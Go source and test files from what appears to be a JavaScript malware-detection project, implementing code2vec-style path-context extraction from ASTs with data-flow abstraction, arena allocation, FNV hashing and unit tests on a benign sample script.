	DataFlow time.Duration
	// Traversal is the leaf collection, pair enumeration, and sampling
	// time.
	Traversal time.Duration
}

// ExtractTimed is Extract with a per-phase timing breakdown.
func ExtractTimed(prog *ast.Program, opts Options) ([]Path, Timing) {
	if opts.MaxLength <= 0 {
		opts.MaxLength = DefaultMaxLength
	}
	if opts.MaxWidth <= 0 {
		opts.MaxWidth = DefaultMaxWidth
	}
	var tm Timing
	var info *dataflow.Info
	if opts.UseDataFlow {
		t0 := time.Now()
		info = dataflow.Analyze(prog)
		tm.DataFlow = time.Since(t0)
	}
	t0 := time.Now()
	types := inferTypes(prog)

	leaves := collectLeaves(prog, info, types)
	// Pair enumeration is quadratic in the leaf count, so heavily
	// obfuscated files (hundreds of kilobytes, tens of thousands of leaves)
	// must be down-sampled before enumeration — the same "limit the number
	// of extracted paths" requirement the paper states, applied one level
	// earlier so the cost bound holds too.
	if opts.MaxPaths > 0 {
		maxLeaves := 4 * opts.MaxPaths
		if len(leaves) > maxLeaves {
			idx := strideIndices(len(leaves), maxLeaves)
			kept := make([]leaf, len(idx))
			for i, j := range idx {
				kept[i] = leaves[j]
			}
			leaves = kept
		}
	}
	paths := enumerate(leaves, opts)
	tm.Traversal = time.Since(t0)
	return paths, tm
}

// strideIndices returns n evenly spaced indices over [0, total).
func strideIndices(total, n int) []int {
	out := make([]int, 0, n)
	stride := float64(total) / float64(n)
	pos := 0.0
	for len(out) < n {
		idx := int(pos)
		if idx >= total {
			break
		}
		out = append(out, idx)
		pos += stride
	}
	return out
}

// leaf is an AST leaf annotated with its abstracted value and the chain of
// ancestors from the root (inclusive of the leaf itself).
type leaf struct {
	value string
	// chain[0] is the root; chain[len-1] is the leaf node.
	chain []ast.Node
	// typs[i] is chain[i].Type(), cached so path construction copies
	// strings instead of re-dispatching the interface method per pair.
	typs []string
	// childIdx[i] is the index of chain[i+1] among chain[i]'s children.
	childIdx []int
}

// maxWalkDepth bounds AST traversal depth so programmatically built trees
// deeper than anything the parser's own recursion limit admits cannot
// overflow the stack; leaves below the cap are simply not extracted.
const maxWalkDepth = 4096

// arenaBlock is the chunk size (in elements) of the extraction arenas. Leaf
// chains and path node sequences are carved out of shared blocks instead of
// being allocated per leaf / per pair, which amortizes thousands of small
// allocations per extraction into a handful of block allocations. Blocks
// are never reused across Extract calls — retained Paths alias them.
const arenaBlock = 4096

// stringArena hands out []string chunks carved from shared blocks.
type stringArena struct{ free []string }

func (a *stringArena) alloc(n int) []string {
	if len(a.free) < n {
		size := arenaBlock
		if n > size {
			size = n
		}
		a.free = make([]string, size)
	}
	out := a.free[:n:n]
	a.free = a.free[n:]
	return out
}

// nodeArena hands out []ast.Node chunks carved from shared blocks.
type nodeArena struct{ free []ast.Node }

func (a *nodeArena) alloc(n int) []ast.Node {
	if len(a.free) < n {
		size := arenaBlock
		if n > size {
			size = n
		}
		a.free = make([]ast.Node, size)
	}
	out := a.free[:n:n]
	a.free = a.free[n:]
	return out
}

// intArena hands out []int chunks carved from shared blocks.
type intArena struct{ free []int }

func (a *intArena) alloc(n int) []int {
	if len(a.free) < n {
		size := arenaBlock
		if n > size {
			size = n
		}
		a.free = make([]int, size)
	}
	out := a.free[:n:n]
	a.free = a.free[n:]
	return out
}

// collectLeaves gathers all leaves in source order with their root chains.
// Chain and child-index copies come from shared arenas, not per-leaf makes.
func collectLeaves(prog *ast.Program, info *dataflow.Info, types map[string]string) []leaf {
	var out []leaf
	var chain []ast.Node
	var typs []string
	var idxs []int
	var nodes nodeArena
	var strs stringArena
	var ints intArena

	var walk func(n ast.Node)
	walk = func(n ast.Node) {
		if len(chain) >= maxWalkDepth {
			return
		}
		chain = append(chain, n)
		typs = append(typs, n.Type())
		kids := n.Children()
		if len(kids) == 0 {
			val := leafValue(n, info, types)
			if val != "" {
				c := nodes.alloc(len(chain))
				copy(c, chain)
				ct := strs.alloc(len(typs))
				copy(ct, typs)
				ci := ints.alloc(len(idxs))
				copy(ci, idxs)
				out = append(out, leaf{value: val, chain: c, typs: ct, childIdx: ci})
			}
		}
		for i, k := range kids {
			idxs = append(idxs, i)
			walk(k)
			idxs = idxs[:len(idxs)-1]
		}
		chain = chain[:len(chain)-1]
		typs = typs[:len(typs)-1]
	}
	walk(prog)
	return out
}

// leafValue computes the path-context value for a leaf: a concrete value for
// data-dependent identifiers, a type indicator otherwise.
func leafValue(n ast.Node, info *dataflow.Info, types map[string]string) string {
	switch v := n.(type) {
	case *ast.Identifier:
		if info != nil && info.HasDependency(v) {
			return v.Name
		}
		if t, ok := types[v.Name]; ok {
			return "@var_" + t
		}
		return "@var_any"
	case *ast.Literal:
		switch v.Kind {
		case ast.LiteralString:
			return "@var_str"
		case ast.LiteralNumber:
			if v.NumVal == float64(int64(v.NumVal)) {
				return "@var_int"
			}
			return "@var_num"
		case ast.LiteralBool:
			return "@var_bool"
		case ast.LiteralNull:
			return "@var_null"
		case ast.LiteralRegExp:
			return "@var_regex"
		}
		return "@var_any"
	case *ast.ThisExpression:
		return "this"
	case *ast.EmptyStatement, *ast.DebuggerStatement:
		return n.Type()
	case *ast.BreakStatement, *ast.ContinueStatement:
		return n.Type()
	default:
		return n.Type()
	}
}

// inferTypes derives a coarse static type for each variable name from its
// declarations and assignments (last write wins; conflicting kinds degrade
// to "any").
func inferTypes(prog *ast.Program) map[string]string {
	types := make(map[string]string)
	set := func(name, t string) {
		if prev, ok := types[name]; ok && prev != t {
			types[name] = "any"
			return
		}
		types[name] = t
	}
	ast.Walk(prog, func(n ast.Node) bool {
		switch v := n.(type) {
		case *ast.VariableDeclarator:
			if v.Init != nil {
				set(v.ID.Name, exprType(v.Init))
			}
		case *ast.AssignmentExpression:
			if id, ok := v.Left.(*ast.Identifier); ok && v.Operator == "=" {
				set(id.Name, exprType(v.Right))
			}
		case *ast.FunctionDeclaration:
			set(v.ID.Name, "fun")
		}
		return true
	})
	return types
}

// exprType maps an initializer expression to a coarse type tag.
func exprType(e ast.Expression) string {
	switch v := e.(type) {
	case *ast.Literal:
		switch v.Kind {
		case ast.LiteralString:
			return "str"
		case ast.LiteralNumber:
			if v.NumVal == float64(int64(v.NumVal)) {
				return "int"
			}
			return "num"
		case ast.LiteralBool:
			return "bool"
		case ast.LiteralNull:
			return "null"
		case ast.LiteralRegExp:
			return "regex"
		}
	case *ast.ArrayExpression:
		return "arr"
	case *ast.ObjectExpression:
		return "obj"
	case *ast.FunctionExpression:
		return "fun"
	case *ast.NewExpression:
		return "obj"
	case *ast.BinaryExpression:
		if v.Operator == "+" {
			lt, rt := exprType(v.Left), exprType(v.Right)
			if lt == "str" || rt == "str" {
				return "str"
			}
			if lt == "int" && rt == "int" {
				return "int"
			}
			return "num"
		}
		switch v.Operator {
		case "==", "!=", "===", "!==", "<", ">", "<=", ">=", "in", "instanceof":
			return "bool"
		}
		return "num"
	case *ast.LogicalExpression:
		return "bool"
	case *ast.UnaryExpression:
		switch v.Operator {
		case "!":
			return "bool"
		case "typeof":
			return "str"
		case "-", "+", "~":
			return "num"
		}
	case *ast.CallExpression, *ast.MemberExpression:
		return "any"
	}
	return "any"
}

// enumerate produces leaf pairs whose connecting path satisfies the length
// and width bounds, stopping once far more paths than the final sample
// needs have been collected.
func enumerate(leaves []leaf, opts Options) []Path {
	budget := -1
	if opts.MaxPaths > 0 {
		budget = 20 * opts.MaxPaths
	}
	if len(leaves) < 2 {
		return nil
	}
	// Leaves arrive in DFS order, so the last common chain index of any pair
	// (i, j) is the minimum of the adjacent-pair values over [i, j).
	// Precomputing those n-1 values turns each pair's LCA into a single
	// comparison instead of a root-down walk with interface equality checks —
	// the dominant cost of the quadratic enumeration.
	adjLCA := make([]int, len(leaves)-1)
	for j := 0; j+1 < len(leaves); j++ {
		adjLCA[j] = lastCommonIndex(leaves[j], leaves[j+1])
	}
	// Pass 1: collect qualifying pairs as index triples. Paths themselves are
	// built only after down-sampling — at the default bounds 95% of the
	// enumerated pairs are discarded by the sampler, so building them (arena
	// copies, write barriers, GC pressure) would be pure waste.
	var refs []pairRef
	for i := 0; i < len(leaves); i++ {
		lca := len(leaves[i].chain) // running LCA index of (i, j); shrinks as j advances
		for j := i + 1; j < len(leaves); j++ {
			if d := adjLCA[j-1]; d < lca {
				lca = d
			}
			// The upward half of the path only grows as j advances (lca is
			// non-increasing); once it cannot fit MaxLength even with the
			// shortest possible downward half, no later j qualifies either.
			if len(leaves[i].chain)-lca+1 > opts.MaxLength {
				break
			}
			if fits(leaves[i], leaves[j], lca, opts) {
				refs = append(refs, pairRef{a: i, b: j, lca: lca})
				if budget > 0 && len(refs) >= budget {
					goto sampled
				}
			}
		}
	}
sampled:
	if opts.MaxPaths > 0 && len(refs) > opts.MaxPaths {
		refs = sampleRefs(refs, opts.MaxPaths)
	}
	// Pass 2: build only the surviving paths.
	out := make([]Path, len(refs))
	var arena stringArena
	for i, r := range refs {
		out[i] = build(leaves[r.a], leaves[r.b], r.lca, &arena)
	}
	return out
}

// pairRef is one qualifying leaf pair with its precomputed LCA index.
type pairRef struct{ a, b, lca int }

// lastCommonIndex returns the last chain index shared by two leaves' root
// chains (>= 0: the root is always shared).
func lastCommonIndex(a, b leaf) int {
	n := len(a.chain)
	if len(b.chain) < n {
		n = len(b.chain)
	}
	i := 0
	for i < n && a.chain[i] == b.chain[i] {
		i++
	}
	return i - 1
}

// fits reports whether the path context between two leaves satisfies the
// width and length bounds. lca is the pair's last common chain index.
func fits(a, b leaf, lca int, opts Options) bool {
	if lca < 0 {
		return false
	}
	// Width: distance of the child indices immediately below the LCA. When a
	// leaf *is* the LCA the width constraint does not apply in the same way;
	// such degenerate paths (one leaf an ancestor of the other) are skipped
	// because both endpoints of a path context must be distinct leaves.
	if lca >= len(a.childIdx) || lca >= len(b.childIdx) {
		return false
	}
	width := b.childIdx[lca] - a.childIdx[lca]
	if width < 0 {
		width = -width
	}
	if width > opts.MaxWidth {
		return false
	}
	// Length: nodes up from a's leaf to LCA plus down to b's leaf, counting
	// both leaf nodes once each.
	upLen := len(a.chain) - 1 - lca   // edges from a-leaf up to LCA
	downLen := len(b.chain) - 1 - lca // edges from LCA down to b-leaf
	return upLen+downLen+1 <= opts.MaxLength
}

// build constructs the path context of a qualifying pair (fits already
// checked). The node sequence is carved from the shared arena.
func build(a, b leaf, lca int, arena *stringArena) Path {
	k := (len(a.chain) - 1 - lca) + (len(b.chain) - 1 - lca) + 1
	nodes := arena.alloc(k)[:0]
	for d := len(a.chain) - 1; d >= lca; d-- {
		nodes = append(nodes, a.typs[d])
	}
	nodes = append(nodes, b.typs[lca+1:len(b.chain)]...)
	return Path{Source: a.value, Target: b.value, Nodes: nodes}
}

// sampleRefs deterministically reduces the qualifying pairs to n entries
// with an even stride so the selection covers the whole file.
func sampleRefs(refs []pairRef, n int) []pairRef {
	out := make([]pairRef, 0, n)
	stride := float64(len(refs)) / float64(n)
	pos := 0.0
	for len(out) < n {
		idx := int(pos)
		if idx >= len(refs) {
			break
		}
		out = append(out, refs[idx])
		pos += stride
	}
	return out
}
