// Package pathctx extracts path contexts from enhanced ASTs.
//
// A path context is the triple <x_s, n1..nk, x_t> of the JSRevealer paper
// (after Alon et al.'s code2vec): x_s and x_t are the values associated with
// two leaves of the AST and n1..nk is the sequence of node types on the
// tree path between them. Paths are bounded by a maximum length (k) and a
// maximum width (the child-index distance at the path's topmost node).
//
// Leaves whose identifier participates in a data dependency keep their
// concrete value; all other leaves are abstracted to a type indicator such
// as "@var_str" or "@var_int", which is what makes the representation
// robust to renaming-style obfuscation.
package pathctx

import (
	"hash/fnv"
	"strings"
	"time"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/dataflow"
)

// Default extraction bounds from the paper (Section III-B).
const (
	DefaultMaxLength = 12
	DefaultMaxWidth  = 4
	// DefaultMaxPaths caps the number of contexts per script so extraction
	// stays tractable on large files; sampling is deterministic.
	DefaultMaxPaths = 1200
)

// Options configures extraction.
type Options struct {
	MaxLength int
	MaxWidth  int
	MaxPaths  int
	// UseDataFlow selects the enhanced AST (true, the paper's default) or
	// the regular AST ablation of Table IV (false): with it disabled every
	// leaf is abstracted and no concrete values survive.
	UseDataFlow bool
}

// DefaultOptions returns the paper's configuration.
func DefaultOptions() Options {
	return Options{
		MaxLength:   DefaultMaxLength,
		MaxWidth:    DefaultMaxWidth,
		MaxPaths:    DefaultMaxPaths,
		UseDataFlow: true,
	}
}

// Path is one extracted path context.
type Path struct {
	// Source and Target are the (possibly abstracted) leaf values.
	Source, Target string
	// Nodes is the sequence of AST node-type names along the path,
	// including both leaf node types.
	Nodes []string
}

// String renders the context in the paper's "<xs, n1...nk, xt>" spirit,
// with components joined by commas and node types by spaces.
func (p Path) String() string {
	return p.Source + "," + strings.Join(p.Nodes, " ") + "," + p.Target
}

// Hash returns a stable 64-bit hash of the full context, used by the
// embedding model's hashed vocabulary.
func (p Path) Hash() uint64 {
	h := fnv.New64a()
	h.Write([]byte(p.Source))
	h.Write([]byte{0})
	for _, n := range p.Nodes {
		h.Write([]byte(n))
		h.Write([]byte{1})
	}
	h.Write([]byte(p.Target))
	return h.Sum64()
}

// ComponentHashes returns stable hashes of the context's three components:
// source value, node-type sequence, and target value. The embedding model
// sums the component embeddings, which realises the paper's requirement
// that "two paths with data dependency will have the same value in their
// triplets, and the vectors obtained in the embedding process will be
// closer": shared values or shared structure directly translate into vector
// proximity.
func (p Path) ComponentHashes() (source, structure, target uint64) {
	hs := fnv.New64a()
	hs.Write([]byte("src:"))
	hs.Write([]byte(p.Source))
	hn := fnv.New64a()
	hn.Write([]byte("nodes:"))
	for _, n := range p.Nodes {
		hn.Write([]byte(n))
		hn.Write([]byte{1})
	}
	ht := fnv.New64a()
	ht.Write([]byte("tgt:"))
	ht.Write([]byte(p.Target))
	return hs.Sum64(), hn.Sum64(), ht.Sum64()
}

// Extract parses nothing: it takes an already-parsed program, runs the
// data-flow analysis when enabled, and returns the path contexts.
func Extract(prog *ast.Program, opts Options) []Path {
	paths, _ := ExtractTimed(prog, opts)
	return paths
}

// Timing breaks one extraction into its two phases so the observability
// layer can attribute data-flow analysis separately from path traversal —
// the paper's Table VIII distinguishes exactly these costs.
type Timing struct {
	// DataFlow is the enhanced-AST data-dependency analysis time (zero
	// when UseDataFlow is disabled).
	DataFlow time.Duration
	// Traversal is the leaf collection, pair enumeration, and sampling
	// time.
	Traversal time.Duration
}

// ExtractTimed is Extract with a per-phase timing breakdown.
func ExtractTimed(prog *ast.Program, opts Options) ([]Path, Timing) {
	if opts.MaxLength <= 0 {
		opts.MaxLength = DefaultMaxLength
	}
	if opts.MaxWidth <= 0 {
		opts.MaxWidth = DefaultMaxWidth
	}
	var tm Timing
	var info *dataflow.Info
	if opts.UseDataFlow {
		t0 := time.Now()
		info = dataflow.Analyze(prog)
		tm.DataFlow = time.Since(t0)
	}
	t0 := time.Now()
	types := inferTypes(prog)

	leaves := collectLeaves(prog, info, types)
	// Pair enumeration is quadratic in the leaf count, so heavily
	// obfuscated files (hundreds of kilobytes, tens of thousands of leaves)
	// must be down-sampled before enumeration — the same "limit the number
	// of extracted paths" requirement the paper states, applied one level
	// earlier so the cost bound holds too.
	if opts.MaxPaths > 0 {
		maxLeaves := 4 * opts.MaxPaths
		if len(leaves) > maxLeaves {
			idx := strideIndices(len(leaves), maxLeaves)
			kept := make([]leaf, len(idx))
			for i, j := range idx {
				kept[i] = leaves[j]
			}
			leaves = kept
		}
	}
	paths := enumerate(leaves, opts)
	if opts.MaxPaths > 0 && len(paths) > opts.MaxPaths {
		paths = sample(paths, opts.MaxPaths)
	}
	tm.Traversal = time.Since(t0)
	return paths, tm
}

// strideIndices returns n evenly spaced indices over [0, total).
func strideIndices(total, n int) []int {
	out := make([]int, 0, n)
	stride := float64(total) / float64(n)
	pos := 0.0
	for len(out) < n {
		idx := int(pos)
		if idx >= total {
			break
		}
		out = append(out, idx)
		pos += stride
	}
	return out
}

// leaf is an AST leaf annotated with its abstracted value and the chain of
// ancestors from the root (inclusive of the leaf itself).
type leaf struct {
	value string
	// chain[0] is the root; chain[len-1] is the leaf node.
	chain []ast.Node
	// childIdx[i] is the index of chain[i+1] among chain[i]'s children.
	childIdx []int
}

// maxWalkDepth bounds AST traversal depth so programmatically built trees
// deeper than anything the parser's own recursion limit admits cannot
// overflow the stack; leaves below the cap are simply not extracted.
const maxWalkDepth = 4096

// collectLeaves gathers all leaves in source order with their root chains.
func collectLeaves(prog *ast.Program, info *dataflow.Info, types map[string]string) []leaf {
	var out []leaf
	var chain []ast.Node
	var idxs []int

	var walk func(n ast.Node)
	walk = func(n ast.Node) {
		if len(chain) >= maxWalkDepth {
			return
		}
		chain = append(chain, n)
		kids := n.Children()
		if len(kids) == 0 {
			val := leafValue(n, info, types)
			if val != "" {
				c := make([]ast.Node, len(chain))
				copy(c, chain)
				ci := make([]int, len(idxs))
				copy(ci, idxs)
				out = append(out, leaf{value: val, chain: c, childIdx: ci})
			}
		}
		for i, k := range kids {
			idxs = append(idxs, i)
			walk(k)
			idxs = idxs[:len(idxs)-1]
		}
		chain = chain[:len(chain)-1]
	}
	walk(prog)
	return out
}

// leafValue computes the path-context value for a leaf: a concrete value for
// data-dependent identifiers, a type indicator otherwise.
func leafValue(n ast.Node, info *dataflow.Info, types map[string]string) string {
	switch v := n.(type) {
	case *ast.Identifier:
		if info != nil && info.HasDependency(v) {
			return v.Name
		}
		if t, ok := types[v.Name]; ok {
			return "@var_" + t
		}
		return "@var_any"
	case *ast.Literal:
		switch v.Kind {
		case ast.LiteralString:
			return "@var_str"
		case ast.LiteralNumber:
			if v.NumVal == float64(int64(v.NumVal)) {
				return "@var_int"
			}
			return "@var_num"
		case ast.LiteralBool:
			return "@var_bool"
		case ast.LiteralNull:
			return "@var_null"
		case ast.LiteralRegExp:
			return "@var_regex"
		}
		return "@var_any"
	case *ast.ThisExpression:
		return "this"
	case *ast.EmptyStatement, *ast.DebuggerStatement:
		return n.Type()
	case *ast.BreakStatement, *ast.ContinueStatement:
		return n.Type()
	default:
		return n.Type()
	}
}

// inferTypes derives a coarse static type for each variable name from its
// declarations and assignments (last write wins; conflicting kinds degrade
// to "any").
func inferTypes(prog *ast.Program) map[string]string {
	types := make(map[string]string)
	set := func(name, t string) {
		if prev, ok := types[name]; ok && prev != t {
			types[name] = "any"
			return
		}
		types[name] = t
	}
	ast.Walk(prog, func(n ast.Node) bool {
		switch v := n.(type) {
		case *ast.VariableDeclarator:
			if v.Init != nil {
				set(v.ID.Name, exprType(v.Init))
			}
		case *ast.AssignmentExpression:
			if id, ok := v.Left.(*ast.Identifier); ok && v.Operator == "=" {
				set(id.Name, exprType(v.Right))
			}
		case *ast.FunctionDeclaration:
			set(v.ID.Name, "fun")
		}
		return true
	})
	return types
}

// exprType maps an initializer expression to a coarse type tag.
func exprType(e ast.Expression) string {
	switch v := e.(type) {
	case *ast.Literal:
		switch v.Kind {
		case ast.LiteralString:
			return "str"
		case ast.LiteralNumber:
			if v.NumVal == float64(int64(v.NumVal)) {
				return "int"
			}
			return "num"
		case ast.LiteralBool:
			return "bool"
		case ast.LiteralNull:
			return "null"
		case ast.LiteralRegExp:
			return "regex"
		}
	case *ast.ArrayExpression:
		return "arr"
	case *ast.ObjectExpression:
		return "obj"
	case *ast.FunctionExpression:
		return "fun"
	case *ast.NewExpression:
		return "obj"
	case *ast.BinaryExpression:
		if v.Operator == "+" {
			lt, rt := exprType(v.Left), exprType(v.Right)
			if lt == "str" || rt == "str" {
				return "str"
			}
			if lt == "int" && rt == "int" {
				return "int"
			}
			return "num"
		}
		switch v.Operator {
		case "==", "!=", "===", "!==", "<", ">", "<=", ">=", "in", "instanceof":
			return "bool"
		}
		return "num"
	case *ast.LogicalExpression:
		return "bool"
	case *ast.UnaryExpression:
		switch v.Operator {
		case "!":
			return "bool"
		case "typeof":
			return "str"
		case "-", "+", "~":
			return "num"
		}
	case *ast.CallExpression, *ast.MemberExpression:
		return "any"
	}
	return "any"
}

// enumerate produces leaf pairs whose connecting path satisfies the length
// and width bounds, stopping once far more paths than the final sample
// needs have been collected.
func enumerate(leaves []leaf, opts Options) []Path {
	budget := -1
	if opts.MaxPaths > 0 {
		budget = 20 * opts.MaxPaths
	}
	var out []Path
	for i := 0; i < len(leaves); i++ {
		for j := i + 1; j < len(leaves); j++ {
			p, ok := connect(leaves[i], leaves[j], opts)
			if ok {
				out = append(out, p)
				if budget > 0 && len(out) >= budget {
					return out
				}
			}
		}
	}
	return out
}

// connect builds the path context between two leaves if it fits the bounds.
func connect(a, b leaf, opts Options) (Path, bool) {
	// Find lowest common ancestor depth.
	lca := 0
	for lca < len(a.chain) && lca < len(b.chain) && a.chain[lca] == b.chain[lca] {
		lca++
	}
	lca-- // last common index
	if lca < 0 {
		return Path{}, false
	}
	// Width: distance of the child indices immediately below the LCA. When a
	// leaf *is* the LCA the width constraint does not apply in the same way;
	// such degenerate paths (one leaf an ancestor of the other) are skipped
	// because both endpoints of a path context must be distinct leaves.
	if lca >= len(a.childIdx) || lca >= len(b.childIdx) {
		return Path{}, false
	}
	width := b.childIdx[lca] - a.childIdx[lca]
	if width < 0 {
		width = -width
	}
	if width > opts.MaxWidth {
		return Path{}, false
	}
	// Length: nodes up from a's leaf to LCA plus down to b's leaf, counting
	// both leaf nodes once each.
	upLen := len(a.chain) - 1 - lca   // edges from a-leaf up to LCA
	downLen := len(b.chain) - 1 - lca // edges from LCA down to b-leaf
	k := upLen + downLen + 1          // number of nodes on the path
	if k > opts.MaxLength {
		return Path{}, false
	}

	nodes := make([]string, 0, k)
	for d := len(a.chain) - 1; d >= lca; d-- {
		nodes = append(nodes, a.chain[d].Type())
	}
	for d := lca + 1; d <= len(b.chain)-1; d++ {
		nodes = append(nodes, b.chain[d].Type())
	}
	return Path{Source: a.value, Target: b.value, Nodes: nodes}, true
}

// sample deterministically reduces paths to n entries with an even stride so
// the selection covers the whole file.
func sample(paths []Path, n int) []Path {
	out := make([]Path, 0, n)
	stride := float64(len(paths)) / float64(n)
	pos := 0.0
	for len(out) < n {
		idx := int(pos)
		if idx >= len(paths) {
			break
		}
		out = append(out, paths[idx])
		pos += stride
	}
	return out
}
