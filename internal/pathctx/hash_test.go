package pathctx

import (
	"hash/fnv"
	"testing"

	"jsrevealer/internal/js/parser"
)

// refHash reimplements Path.Hash through the stdlib hasher, the
// implementation the inlined FNV-1a replaced. The vocabulary buckets of a
// trained model depend on these values, so the inline version must agree
// byte for byte.
func refHash(p Path) uint64 {
	h := fnv.New64a()
	h.Write([]byte(p.Source))
	h.Write([]byte{0})
	for _, n := range p.Nodes {
		h.Write([]byte(n))
		h.Write([]byte{1})
	}
	h.Write([]byte(p.Target))
	return h.Sum64()
}

// refComponentHashes is the stdlib-hasher reference for ComponentHashes.
func refComponentHashes(p Path) (uint64, uint64, uint64) {
	hs := fnv.New64a()
	hs.Write([]byte("src:"))
	hs.Write([]byte(p.Source))
	hn := fnv.New64a()
	hn.Write([]byte("nodes:"))
	for _, n := range p.Nodes {
		hn.Write([]byte(n))
		hn.Write([]byte{1})
	}
	ht := fnv.New64a()
	ht.Write([]byte("tgt:"))
	ht.Write([]byte(p.Target))
	return hs.Sum64(), hn.Sum64(), ht.Sum64()
}

// hashProbes covers the edge shapes: empty components, empty node lists,
// separator bytes appearing inside values, and multi-byte UTF-8.
var hashProbes = []Path{
	{},
	{Source: "a", Target: "b"},
	{Source: "@var_str", Target: "decode", Nodes: []string{"Literal", "CallExpression", "Identifier"}},
	{Source: "x\x00y", Target: "p\x01q", Nodes: []string{"", "\x01", "\x00"}},
	{Source: "日本語", Target: "émoji🙂", Nodes: []string{"Identifiér"}},
}

func TestInlineHashMatchesStdlibFNV(t *testing.T) {
	for i, p := range hashProbes {
		if got, want := p.Hash(), refHash(p); got != want {
			t.Errorf("probe %d: Hash = %#x, stdlib fnv = %#x", i, got, want)
		}
		gs, gn, gt := p.ComponentHashes()
		ws, wn, wt := refComponentHashes(p)
		if gs != ws || gn != wn || gt != wt {
			t.Errorf("probe %d: ComponentHashes = %#x/%#x/%#x, stdlib = %#x/%#x/%#x",
				i, gs, gn, gt, ws, wn, wt)
		}
	}
}

// TestInlineHashMatchesOnRealPaths runs the equivalence over every path of
// a real extraction, not just synthetic probes.
func TestInlineHashMatchesOnRealPaths(t *testing.T) {
	prog, err := parser.Parse(sampleSrc)
	if err != nil {
		t.Fatal(err)
	}
	paths := Extract(prog, DefaultOptions())
	if len(paths) == 0 {
		t.Fatal("no paths extracted")
	}
	for i, p := range paths {
		if p.Hash() != refHash(p) {
			t.Fatalf("path %d: full hash diverged from stdlib fnv", i)
		}
		gs, gn, gt := p.ComponentHashes()
		ws, wn, wt := refComponentHashes(p)
		if gs != ws || gn != wn || gt != wt {
			t.Fatalf("path %d: component hashes diverged from stdlib fnv", i)
		}
	}
}

// TestPathsAreIndependentOfArena ensures the arena-backed node slices of
// different paths never alias: appending through one path's Nodes must not
// be possible (full-capacity slices), and values must stay intact.
func TestPathsAreIndependentOfArena(t *testing.T) {
	prog, err := parser.Parse(sampleSrc)
	if err != nil {
		t.Fatal(err)
	}
	paths := Extract(prog, DefaultOptions())
	if len(paths) < 2 {
		t.Fatal("need at least two paths")
	}
	for i, p := range paths {
		if len(p.Nodes) != cap(p.Nodes) {
			t.Fatalf("path %d: Nodes not capacity-clamped (len %d cap %d)",
				i, len(p.Nodes), cap(p.Nodes))
		}
	}
	before := paths[1].String()
	for j := range paths[0].Nodes {
		paths[0].Nodes[j] = "CLOBBERED"
	}
	if paths[1].String() != before {
		t.Fatal("mutating one path's Nodes corrupted a neighbour")
	}
}

// BenchmarkPathHash measures the component hashing of a realistic path set,
// the per-path cost the detect hot path pays to key the vocabulary.
func BenchmarkPathHash(b *testing.B) {
	prog, err := parser.Parse(sampleSrc)
	if err != nil {
		b.Fatal(err)
	}
	paths := Extract(prog, DefaultOptions())
	if len(paths) == 0 {
		b.Fatal("no paths")
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var acc uint64
		for _, p := range paths {
			s, n, t := p.ComponentHashes()
			acc ^= s ^ n ^ t
		}
		if acc == 0 && len(paths) > 0 {
			_ = acc
		}
	}
}

// BenchmarkExtract measures one full extraction (data flow + traversal +
// enumeration) with the arena-backed buffers.
func BenchmarkExtract(b *testing.B) {
	prog, err := parser.Parse(sampleSrc)
	if err != nil {
		b.Fatal(err)
	}
	opts := DefaultOptions()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if paths := Extract(prog, opts); len(paths) == 0 {
			b.Fatal("no paths")
		}
	}
}
