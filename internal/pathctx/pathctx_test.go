package pathctx

import (
	"strings"
	"testing"
	"testing/quick"

	"jsrevealer/internal/js/parser"
)

func extract(t *testing.T, src string, opts Options) []Path {
	t.Helper()
	prog, err := parser.Parse(src)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	return Extract(prog, opts)
}

const sampleSrc = `
var timeZoneMinutes = offsetOf();
var dateStr = "2023-01-01";
if (timeZoneMinutes > 0) {
  el.setAttribute("tz", timeZoneMinutes);
}
`

func TestBoundsRespected(t *testing.T) {
	opts := DefaultOptions()
	paths := extract(t, sampleSrc, opts)
	if len(paths) == 0 {
		t.Fatal("no paths extracted")
	}
	for _, p := range paths {
		if len(p.Nodes) > opts.MaxLength {
			t.Errorf("path length %d exceeds %d: %v", len(p.Nodes), opts.MaxLength, p.Nodes)
		}
	}
}

func TestMaxPathsCap(t *testing.T) {
	opts := DefaultOptions()
	opts.MaxPaths = 10
	paths := extract(t, sampleSrc, opts)
	if len(paths) > 10 {
		t.Errorf("cap violated: %d paths", len(paths))
	}
}

func TestDataDependentLeafKeepsValue(t *testing.T) {
	paths := extract(t, sampleSrc, DefaultOptions())
	foundConcrete := false
	for _, p := range paths {
		if p.Source == "timeZoneMinutes" || p.Target == "timeZoneMinutes" {
			foundConcrete = true
		}
	}
	if !foundConcrete {
		t.Error("data-dependent variable name not preserved in any path")
	}
}

func TestIndependentLeafAbstracted(t *testing.T) {
	// dateStr has no data dependencies: it must appear only as @var_str.
	paths := extract(t, sampleSrc, DefaultOptions())
	for _, p := range paths {
		if p.Source == "dateStr" || p.Target == "dateStr" {
			t.Errorf("independent variable kept concrete value: %v", p)
		}
	}
}

func TestRegularASTAbstractsEverything(t *testing.T) {
	opts := DefaultOptions()
	opts.UseDataFlow = false
	paths := extract(t, sampleSrc, opts)
	for _, p := range paths {
		for _, v := range []string{p.Source, p.Target} {
			if !strings.HasPrefix(v, "@var_") && v != "this" &&
				!strings.Contains(v, "Statement") {
				t.Errorf("regular AST leaked concrete value %q", v)
			}
		}
	}
}

func TestLiteralAbstractionKinds(t *testing.T) {
	src := `var a = 1; var b = 1.5; var c = "s"; var d = true; var e = null; var f = /x/;`
	paths := extract(t, src, DefaultOptions())
	seen := make(map[string]bool)
	for _, p := range paths {
		seen[p.Source] = true
		seen[p.Target] = true
	}
	for _, want := range []string{"@var_int", "@var_num", "@var_str", "@var_bool", "@var_null", "@var_regex"} {
		if !seen[want] {
			t.Errorf("missing abstraction %s in %v", want, keys(seen))
		}
	}
}

func keys(m map[string]bool) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	return out
}

func TestPathStringFormat(t *testing.T) {
	p := Path{Source: "a", Target: "b", Nodes: []string{"Identifier", "BinaryExpression", "Identifier"}}
	want := "a,Identifier BinaryExpression Identifier,b"
	if p.String() != want {
		t.Errorf("String() = %q, want %q", p.String(), want)
	}
}

func TestHashDeterministicAndDiscriminating(t *testing.T) {
	p1 := Path{Source: "a", Target: "b", Nodes: []string{"X", "Y"}}
	p2 := Path{Source: "a", Target: "b", Nodes: []string{"X", "Y"}}
